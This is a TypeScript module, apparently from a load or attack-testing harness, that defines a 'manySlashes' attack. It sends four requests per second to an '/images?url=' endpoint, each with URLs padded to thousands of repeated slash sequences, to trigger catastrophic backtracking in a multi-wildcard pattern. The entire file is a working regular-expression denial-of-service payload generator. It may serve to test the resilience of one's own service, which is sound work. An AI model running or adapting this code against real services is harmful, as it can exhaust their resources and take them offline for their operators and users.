import { type Attack, nth, perSecond } from './attack.ts';
import { ask } from './requests.ts';

const PER_SECOND = 4;
const LENGTH = 2500;

/** Paths on which a pattern with several wildcards in a row may try every way to match. */
const PATHS = ['/', '/a', '/.jp', '.jpg', '//x'].map((text) => text.repeat(LENGTH / text.length));

/** Asks for URLs of thousands of slashes, against the source with the pattern of three wildcards. */
export const manySlashes: Attack = ({ apis, camera }, count) => {
  perSecond(PER_SECOND, (turn) => {
    // Slashes need no escape in a query, and leave room for more of them.
    const url = `${camera}/${nth(PATHS, turn)}${turn}`;
    return ask(nth(apis, turn), `/images?url=${url}`, count);
  });
};
